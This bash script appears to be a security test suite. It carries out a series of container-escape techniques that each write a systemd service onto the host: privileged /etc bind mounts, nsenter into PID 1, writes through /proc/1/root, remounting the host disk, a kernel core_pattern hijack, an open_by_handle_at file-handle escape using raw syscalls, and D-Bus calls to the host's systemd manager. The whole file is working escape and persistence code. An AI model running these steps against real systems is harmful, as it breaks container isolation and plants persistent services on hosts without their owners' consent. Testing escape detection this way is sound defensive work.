# Units of the host, written out of containers.
# shellcheck shell=bash

unit='printf "[Service]\nExecStart=/opt/suite/agent\n"'

step way.docker-bind
docker run --rm --privileged --name way-bind --volume /etc:/mnt box sh -c "$unit >/mnt/systemd/system/way-docker-bind.service"
step way.docker-nsenter
docker run --rm --privileged --name way-nsenter --pid host box sh -c "nsenter -t 1 -m sh -c '$unit >/etc/systemd/system/way-docker-nsenter.service'"
step way.docker-root
docker run --rm --privileged --name way-root --pid host box sh -c "$unit >/proc/1/root/etc/systemd/system/way-docker-root.service"
step way.docker-cp
printf '[Service]\nExecStart=/opt/suite/agent\n' >/opt/suite/way-cp.service
docker run --detach --name way-cp --volume /etc:/mnt box sleep 1000 >/dev/null
docker cp --quiet /opt/suite/way-cp.service way-cp:/mnt/systemd/system/way-docker-cp.service 2>/dev/null ||
    docker cp /opt/suite/way-cp.service way-cp:/mnt/systemd/system/way-docker-cp.service
step way.docker-exec
docker exec way-cp sh -c "$unit >/mnt/systemd/system/way-docker-exec.service"
docker rm --force way-cp >/dev/null
step way.podman-bind
podman run --rm --name way-podman --volume /etc:/mnt box sh -c "$unit >/mnt/systemd/system/way-podman-bind.service"

# The host's disk, mounted once more.
step way.disk
docker run --rm --privileged --name way-disk box sh -c "mkdir /m && mount -t ext4 $(findmnt --noheadings --output SOURCE /) /m && \
    $unit >/m/etc/systemd/system/way-disk.service && umount /m"

# A program of the host's that the kernel runs, outside of all containers.
step way.core
core=$(cat /proc/sys/kernel/core_pattern)
printf '#!/bin/sh\ncat >/dev/null\nprintf "[Service]\\n" >/etc/systemd/system/way-core.service\n' >/opt/suite/way-core
chmod +x /opt/suite/way-core
docker run --rm --privileged --name way-core box sh -c \
    'echo "|/opt/suite/way-core" >/proc/sys/kernel/core_pattern; sh -c "kill -SEGV \$\$"; sleep 0.5'
echo "$core" >/proc/sys/kernel/core_pattern

# By a file handle, over any file of the same file system; perl and its libraries are the host's.
step way.handle-prepare
: >/etc/systemd/system/way-handle.service
sleep 0.5
step way.handle
# name_to_handle_at(2), open_by_handle_at(2)
handle=$(perl -e 'my ($h, $m, $unit) = (pack("IiZ128", 128, 0, ""), pack("i", 0), "/etc/systemd/system/way-handle.service\0");
    syscall(303, -100, $unit, $h, $m, 0) == 0 or die $!; print unpack("H*", $h)')
docker run --rm --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined --name way-handle --volume /opt/suite:/x --volume /usr:/usr:ro \
    --volume /lib:/lib:ro --volume /lib64:/lib64:ro box /usr/bin/perl -e 'open(my $x, "<", "/x/agent") or die $!;
    my $h = pack("H*", $ARGV[0]); my $fd = syscall(304, fileno($x), $h, 01001); $fd >= 0 or die $!;
    open(my $unit, ">&=", $fd) or die $!; print $unit "[Service]\nExecStart=/opt/suite/agent\n";' "$handle"

# The host's manager, asked from inside.
printf '[Service]\nExecStart=/opt/suite/agent\n' >/opt/suite/cat-from-bus.service
step catalog.A7.8
docker run --rm --volume /:/host --name cat-bus box chroot /host busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 \
    org.freedesktop.systemd1.Manager LinkUnitFiles asbb 1 /opt/suite/cat-from-bus.service false false
